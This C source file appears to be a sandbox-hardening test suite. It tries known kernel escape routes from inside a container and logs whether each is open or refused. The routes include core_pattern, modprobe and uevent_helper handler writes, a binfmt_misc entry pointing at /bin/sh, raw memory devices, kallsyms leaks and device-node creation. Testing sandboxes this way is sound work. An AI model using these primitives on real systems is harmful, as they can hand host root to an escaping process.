/* Files of the kernel: settings, memory, devices. */
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

/* core_pattern HANDLER: the program the host's root runs when any process of the host crashes. */
static void core_pattern(int count, char **arguments) {
  char handler[256];
  snprintf(handler, sizeof(handler), "|%s", count > 0 ? arguments[0] : "/tmp/handler");
  attempt("/proc/sys/kernel/core_pattern", write_file("/proc/sys/kernel/core_pattern", handler));
  attempt("/proc/sys/kernel/modprobe", write_file("/proc/sys/kernel/modprobe", handler + 1));
  attempt("/proc/sys/kernel/poweroff_cmd",
          write_file("/proc/sys/kernel/poweroff_cmd", handler + 1));
  attempt("/sys/kernel/uevent_helper", write_file("/sys/kernel/uevent_helper", handler + 1));
  attempt("/proc/sys/fs/binfmt_misc/register",
          write_file("/proc/sys/fs/binfmt_misc/register", ":glassbox:M::\\x7fESCAPE::/bin/sh:C"));
}

/* What each network, IPC, UTS, PID or user namespace has of its own. */
static bool is_of_a_namespace(const char *path) {
  static const char *const parts[] = {"/proc/sys/net/",
                                      "/proc/sys/user/",
                                      "/proc/sys/fs/mqueue/",
                                      "/proc/sys/kernel/msg",
                                      "/proc/sys/kernel/sem",
                                      "/proc/sys/kernel/shm",
                                      "/proc/sys/kernel/auto_msg",
                                      "/proc/sys/kernel/hostname",
                                      "/proc/sys/kernel/domainname",
                                      "/proc/sys/kernel/ns_last_pid",
                                      "/proc/sys/kernel/pid_max"};
  for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++) {
    if (strncmp(path, parts[i], strlen(parts[i])) == 0) {
      return true;
    }
  }
  return false;
}

static int closed_files;
static int last_error;

/* Opening for writing is all that is tried: a setting that can be opened can be set. */
static int try_to_write(const char *path, const struct stat *status, int type, struct FTW *place) {
  (void)status;
  (void)place;
  if (type != FTW_F || is_of_a_namespace(path)) {
    return 0;
  }
  int file = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
  if (file >= 0) {
    open_way("%s can be written", path);
    close(file);
  } else {
    closed_files++;
    last_error = errno;
  }
  return 0;
}

static void settings_below(const char *root) {
  closed_files = 0;
  nftw(root, try_to_write, 16, FTW_PHYS | FTW_MOUNT);
  refused("%d files below %s: %s", closed_files, root, error_name(last_error));
}

static void settings(int count, char **arguments) {
  (void)count;
  (void)arguments;
  settings_below("/proc/sys");
}

static void devices_of_sysfs(int count, char **arguments) {
  static const char *const roots[] = {"/sys/kernel",   "/sys/module", "/sys/power",
                                      "/sys/firmware", "/sys/block",  "/sys/bus/pci"};
  (void)count;
  (void)arguments;
  for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
    settings_below(roots[i]);
  }
}

static void kernel_mounts(int count, char **arguments) {
  static const char *const types[] = {"debugfs", "tracefs",  "securityfs", "configfs", "bpf",
                                      "pstore",  "efivarfs", "ext4",       "btrfs",    "devtmpfs",
                                      "fusectl", "nfs",      "9p",         "virtiofs"};
  (void)count;
  (void)arguments;
  mkdir("/tmp/kernel", 0755);
  for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
    char what[64];
    snprintf(what, sizeof(what), "mount of %s", types[i]);
    /* bpf may be mounted by any user namespace's root: empty, and without the system call. */
    long result = mount("none", "/tmp/kernel", types[i], 0, NULL);
    if (result == 0 && strcmp(types[i], "bpf") == 0) {
      umount2("/tmp/kernel", MNT_DETACH);
      refused("%s: empty, and bpf(2) is refused", what);
      continue;
    }
    attempt(what, result);
    umount2("/tmp/kernel", MNT_DETACH);
  }
}

static void sysrq(int count, char **arguments) {
  (void)count;
  (void)arguments;
  /* 'h' only prints help, should it ever get through. */
  attempt("/proc/sysrq-trigger", write_file("/proc/sysrq-trigger", "h"));
  attempt("/proc/sys/kernel/sysrq", write_file("/proc/sys/kernel/sysrq", "1"));
}

static void memory(int count, char **arguments) {
  (void)count;
  (void)arguments;
  attempt("/proc/kcore", open("/proc/kcore", O_RDONLY | O_CLOEXEC));
  attempt("/dev/mem", open("/dev/mem", O_RDWR | O_CLOEXEC));
  attempt("/dev/kmem", open("/dev/kmem", O_RDWR | O_CLOEXEC));
  char text[256];
  if (read_file("/proc/1/pagemap", text, sizeof(text)) > 0) {
    unsigned long frame = 0;
    memcpy(&frame, text, sizeof(frame));
    if ((frame & ((1UL << 55) - 1)) != 0) {
      open_way("/proc/1/pagemap shows physical addresses");
    }
  }
  attempt("/proc/kpageflags", open("/proc/kpageflags", O_RDONLY | O_CLOEXEC));
}

static void addresses(int count, char **arguments) {
  (void)count;
  (void)arguments;
  char line[512];
  FILE *symbols = fopen("/proc/kallsyms", "re");
  if (symbols == NULL) {
    refused("/proc/kallsyms: %s", error_name(errno));
    return;
  }
  while (fgets(line, sizeof(line), symbols) != NULL) {
    if (strspn(line, "0") < 8) {
      open_way("/proc/kallsyms says where the kernel is: %.40s", line);
      break;
    }
  }
  fclose(symbols);
  refused("/proc/kallsyms: zeros only");
}

static const struct {
  const char *name;
  unsigned type;
  unsigned major;
  unsigned minor;
} DEVICES[] = {
    {"vda", S_IFBLK, 254, 0},
    {"vdb", S_IFBLK, 253, 0},
    {"sda", S_IFBLK, 8, 0},
    {"loop0", S_IFBLK, 7, 0},
    {"mem", S_IFCHR, 1, 1},
    {"kmsg", S_IFCHR, 1, 11},
    {"console", S_IFCHR, 5, 1},
    {"tty0", S_IFCHR, 4, 0},
    {"ttyS0", S_IFCHR, 4, 64},
    {"fuse", S_IFCHR, 10, 229},
    {"kvm", S_IFCHR, 10, 232},
    {"tun", S_IFCHR, 10, 200},
    {"loop-control", S_IFCHR, 10, 237},
    {"vhost-vsock", S_IFCHR, 10, 241},
};

/* Nodes on every file system a sandbox can write to or mount. */
static void nodes(int count, char **arguments) {
  static const char *const places[] = {"/tmp", "/root", "/dev", "/dev/shm", "/tmp/nodes"};
  (void)count;
  (void)arguments;
  mkdir("/tmp/nodes", 0755);
  mount("nodes", "/tmp/nodes", "tmpfs", 0, NULL);
  for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
    for (size_t j = 0; j < sizeof(DEVICES) / sizeof(DEVICES[0]); j++) {
      char path[64];
      snprintf(path, sizeof(path), "%s/escape-%s", places[i], DEVICES[j].name);
      if (mknod(path, DEVICES[j].type | 0666, makedev(DEVICES[j].major, DEVICES[j].minor)) < 0) {
        last_error = errno;
        continue;
      }
      int device = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
      if (device >= 0) {
        open_way("%s could be made and opened", path);
        close(device);
      } else {
        open_way("%s could be made; opening: %s", path, error_name(errno));
      }
      unlink(path);
    }
  }
  umount2("/tmp/nodes", MNT_DETACH);
  refused("nodes in %zu places: %s", sizeof(places) / sizeof(places[0]), error_name(last_error));
}

/* Every node of /dev that is there: only the six harmless ones and terminals open. */
static void present_devices(int count, char **arguments) {
  static const char *const known[] = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"};
  (void)count;
  (void)arguments;
  DIR *directory = opendir("/dev");
  for (struct dirent *entry = directory == NULL ? NULL : readdir(directory); entry != NULL;
       entry = readdir(directory)) {
    struct stat status;
    char path[300];
    bool expected = strncmp(entry->d_name, "tty", 3) == 0;
    for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++) {
      expected = expected || strcmp(entry->d_name, known[i]) == 0;
    }
    snprintf(path, sizeof(path), "/dev/%s", entry->d_name);
    if (!expected && stat(path, &status) == 0 &&
        (S_ISBLK(status.st_mode) || S_ISCHR(status.st_mode)) && status.st_rdev != 0 &&
        major(status.st_rdev) != 136 && strncmp(entry->d_name, "std", 3) != 0) {
      open_way("%s is a device", path);
    }
  }
  closedir(directory);
  refused("no other device than null, zero, full, random, urandom and terminals: ENOENT");
}

const struct attack KERNEL_ATTACKS[] = {
    {"core_pattern", core_pattern},
    {"settings", settings},
    {"sysfs", devices_of_sysfs},
    {"kernel-mounts", kernel_mounts},
    {"sysrq", sysrq},
    {"memory", memory},
    {"addresses", addresses},
    {"nodes", nodes},
    {"present-devices", present_devices},
    {NULL, NULL},
};
